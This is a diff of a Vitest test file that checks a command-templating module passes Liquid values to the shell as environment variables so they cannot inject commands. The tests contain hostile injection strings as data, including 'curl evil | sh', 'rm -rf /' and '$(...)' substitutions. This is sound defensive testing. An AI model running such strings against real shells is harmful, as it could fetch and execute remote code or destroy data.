@@ -1,24 +1,116 @@
 import { execFileSync } from 'node:child_process';
-import { describe, expect, it } from 'vitest';
-import { capOutput, createCommandLiquid, readExitStatus, renderCommand, shellQuote, withExitMarker, EXIT_MARKER, MAX_KEPT_OUTPUT } from './run-command.js';
+import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { capOutput, CommandTemplateError, createCommandLiquid, readExitStatus, renderCommand, withExitMarker, EXIT_MARKER, MAX_KEPT_OUTPUT } from './run-command.js';
 
-const sh = (command: string) => execFileSync('/bin/sh', ['-c', command], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });
+const sandbox = mkdtempSync(path.join(os.tmpdir(), 'pb-shell-'));
+afterAll(() => rmSync(sandbox, { recursive: true, force: true }));
+const shells = ['/bin/sh', '/bin/bash'].filter((shell) => existsSync(shell));
+const run = (shell: string, command: string, env: Record<string, string> = {}) =>
+  execFileSync(shell, ['-c', command], { encoding: 'utf8', cwd: sandbox, env: { PATH: '/usr/bin:/bin', ...env } });
+const sh = (command: string) => run('/bin/sh', command);
 
-describe('shell escaping of interpolated values', () => {
-  const hostile = [`x"; curl evil | sh; "`, `$(touch /tmp/pwned)`, '`id`', "it's; rm -rf /", 'a\nb', '$HOME & echo hi', ''];
-  it.each(hostile)('%j reaches the shell as one inert argument', (value) => {
-    expect(sh(`printf '%s' ${shellQuote(value)}`)).toBe(value);
+const liquid = createCommandLiquid();
+
+describe('values reach the dyno as data, in every quoting position', () => {
+  // Each would run something (or expand) if it were command text; `touch` leaves a file behind.
+  const hostile = [
+    `x"; touch dq; "`,
+    `x'; touch sq; '`,
+    '$(touch subst)',
+    '`touch backtick`',
+    '${IFS}$(touch ifs)',
+    "$'\\'; touch ansi; '",
+    ') ; touch paren ; (',
+    '\\"\\\'; touch bs',
+    '* ?',
+    '  two  spaces\tand tab  ',
+    'line one\n; touch newline',
+    '# not a comment; touch hash',
+    '))); touch arith',
+    '%s -n',
+    'déjà vu ✓',
+    '',
+  ];
+  // The author's template around `{{ v }}`; every line must print the value exactly.
+  const positions: [string, string][] = [
+    ['bare', `printf '%s\\n' {{ v }}`],
+    ['bare inside a word', `printf '%s\\n' pre{{ v }}post`],
+    ['double quotes', `printf '%s\\n' "pre {{ v }} post"`],
+    ['single quotes', `printf '%s\\n' 'pre {{ v }} post'`],
+    ["$'...'", `printf '%s\\n' $'pre {{ v }} post'`],
+    ['backticks', `printf '%s\\n' "\`printf '%s' {{ v }}\`"`],
+    ['$(...)', `printf '%s\\n' "$(printf '%s' {{ v }})"`],
+    ['quotes inside $(...) inside quotes', `printf '%s\\n' "$(printf '%s' '{{ v }}' "{{ v }}")"`],
+    ['after a comment on an earlier line', `# {{ v }}\nprintf '%s\\n' {{ v }}`],
+  ];
+  const expected: Record<string, (value: string) => string> = {
+    bare: (v) => v,
+    'bare inside a word': (v) => `pre${v}post`,
+    'double quotes': (v) => `pre ${v} post`,
+    'single quotes': (v) => `pre ${v} post`,
+    "$'...'": (v) => `pre ${v} post`,
+    backticks: (v) => v.replace(/\n+$/, ''),
+    '$(...)': (v) => v.replace(/\n+$/, ''),
+    'quotes inside $(...) inside quotes': (v) => `${v}${v}`.replace(/\n+$/, ''),
+    'after a comment on an earlier line': (v) => v,
+  };
+
+  for (const shell of shells) {
+    describe(shell, () => {
+      it.each(positions)('%s', (name, template) => {
+        if (name === "$'...'" && run(shell, "printf '%s' $'a'") !== 'a') return; // dash has no $'...'
+        // Every hostile value through the position at once: one line each.
+        const rendered = renderCommand(liquid, `{% for v in values %}${template}\n{% endfor %}`, { values: hostile });
+        // The command text holds references only; the values are in the environment.
+        for (const value of hostile.filter((v) => v.length > 2)) expect(rendered.command).not.toContain(value);
+        expect(rendered.command).not.toMatch(/touch|IFS|\*/);
+        expect(Object.values(rendered.env).sort()).toEqual([...hostile].sort());
+        expect(run(shell, rendered.command, rendered.env)).toBe(hostile.map((value) => `${expected[name]!(value)}\n`).join(''));
+        expect(readdirSync(sandbox)).toEqual([]);
+      });
+    });
+  }
+
+  it('an author wrapping a value in quotes of every kind still gets the value, and a value is never text of the command', () => {
+    const rendered = renderCommand(liquid, `echo {{ t }} "{{ t }}" '{{ t }}' on {{ app.name | upcase }}`, { t: 'x"; curl evil | sh; "', app: { name: 'shop' } });
+    expect(rendered.command).toBe(`echo "\${PB_1}" "\${PB_1}" ''"\${PB_1}"'' on "\${PB_2}"`);
+    expect(rendered.env).toEqual({ PB_1: 'x"; curl evil | sh; "', PB_2: 'SHOP' });
+    expect(rendered.display).toBe(`${rendered.command}  # PB_1="x\\"; curl evil | sh; \\"" PB_2="SHOP"`);
+    expect(sh(Object.entries(rendered.env).map(([k, v]) => `${k}=${JSON.stringify(v).replace(/\$/g, '\\$')}`).join(' ') + ' ; export PB_1 PB_2; ' + rendered.command)).toBe(
+      `${'x"; curl evil | sh; "'} ${'x"; curl evil | sh; "'} ${'x"; curl evil | sh; "'} on SHOP\n`,
+    );
   });
 
-  it('templates quote every value but keep the command as written', () => {
-    const liquid = createCommandLiquid();
-    const command = renderCommand(liquid, 'echo {{ incident.title }} | wc -c && echo {{ app.name | upcase }}', { incident: { title: 'x"; curl evil | sh; "' }, app: { name: 'shop' } });
-    expect(command).toBe(`echo 'x"; curl evil | sh; "' | wc -c && echo 'SHOP'`);
-    expect(sh(command).split('\n').map((s) => s.trim())).toEqual([String('x"; curl evil | sh; "'.length + 1), 'SHOP', '']);
+  it('a value built by capture or assign is still data', () => {
+    const rendered = renderCommand(liquid, `{% capture c %}[{{ v }}]{% endcapture %}{% assign a = v | append: '!' %}printf '%s %s\\n' {{ c }} "{{ a }}"`, { v: '$(touch cap)' });
+    expect(rendered.env).toEqual({ PB_1: '[$(touch cap)]', PB_2: '$(touch cap)!' });
+    expect(run('/bin/sh', rendered.command, rendered.env)).toBe('[$(touch cap)] $(touch cap)!\n');
+    expect(readdirSync(sandbox)).toEqual([]);
+  });
+
+  it('refuses `raw`, a value inside shell arithmetic, and reserved characters', () => {
+    expect(() => renderCommand(liquid, 'echo {{ incident.title | raw }}', {})).toThrow(/the "raw" filter is not available in commands/);
+    expect(() => renderCommand(liquid, 'echo $(( {{ n }} + 1 ))', { n: 'a[$(touch x)]' })).toThrow(/inside \$\(\( \)\): shell arithmetic would evaluate it as code/);
+    expect(() => renderCommand(liquid, 'echo \uE0000\uE001', {})).toThrow(/reserved character/);
+    // A value that looks like a marker stays a value.
+    expect(renderCommand(liquid, 'echo {{ v }}', { v: '\uE0000\uE001 $(id)' }).command).toBe('echo "${PB_1}"');
+  });
+
+  it('equal values share a variable; too many distinct values are refused', () => {
+    expect(renderCommand(liquid, 'echo {{ a }} {{ a }} {{ b }}', { a: 'x', b: 'y' }).env).toEqual({ PB_1: 'x', PB_2: 'y' });
+    expect(() => renderCommand(liquid, '{% for i in (1..101) %}{{ i }}{% endfor %}', {})).toThrow(/exceeds the limits for commands \(more than 100 distinct values/);
+  });
+
+  it('a command without values passes no environment', () => {
+    expect(renderCommand(liquid, 'echo hello', {})).toEqual({ command: 'echo hello', env: {}, display: 'echo hello' });
   });
 
   it('a broken template is refused', () => {
     expect(() => renderCommand(createCommandLiquid(), 'echo {{ x | nope }}', {})).toThrow(/command is not a valid template: undefined filter: nope/);
+    expect(() => renderCommand(createCommandLiquid(), 'echo {{ x | nope }}', {})).toThrow(CommandTemplateError);
   });
 });
 
